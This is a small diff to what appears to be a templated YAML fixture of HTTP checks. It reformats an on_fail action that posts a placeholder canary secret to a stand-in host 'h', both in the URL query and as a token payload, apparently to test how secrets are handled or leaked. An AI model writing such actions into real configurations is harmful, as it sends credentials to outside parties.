@@ -26,7 +26,9 @@ checks:
     auth: {{bearer: !secret nas}}
     body: "password={CANARY}"
     expect_body: {{contains: !secret nas}}
-    on_fail: {{actions: [{{type: http_post, url: "http://h/?key={CANARY}", token: {CANARY}}}]}}
+    on_fail:
+      actions:
+        - {{type: http_post, url: "http://h/?key={CANARY}", payload: {{token: {CANARY}}}}}
   - id: b
     type: http
     url: "${{URL_WITH_LOGIN}}"
